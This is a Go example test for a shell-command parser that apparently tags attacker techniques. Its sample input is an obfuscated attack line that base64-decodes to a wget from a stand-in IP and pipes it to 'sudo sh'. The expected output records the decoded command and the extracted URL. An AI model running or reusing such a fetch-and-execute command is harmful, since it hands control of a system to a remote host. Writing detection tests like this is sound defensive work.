package shell_test

import (
	"fmt"

	"github.com/ttpcron/ttpcron/tagger/shell"
)

func ExampleParser_Parse() {
	parser := shell.NewParser(shell.Limits{})
	script := parser.Parse(`cd /tmp; echo d2dldCBodHRwOi8vMjAzLjAuMTEzLjkvYQ==|base64 -d|sudo sh`)
	for _, c := range script.Commands {
		fmt.Printf("%d %s %v %v\n", c.Depth, c.Line, c.Wrappers, c.URLs)
	}
	fmt.Println(script.Decoded[0].How, script.Decoded[0].Text)
	// Output:
	// 0 cd /tmp [] []
	// 0 echo d2dldCBodHRwOi8vMjAzLjAuMTEzLjkvYQ== [] []
	// 0 base64 -d [] []
	// 0 sh [sudo] []
	// 1 wget http://203.0.113.9/a [sudo sh] [http://203.0.113.9/a]
	// base64 wget http://203.0.113.9/a
}
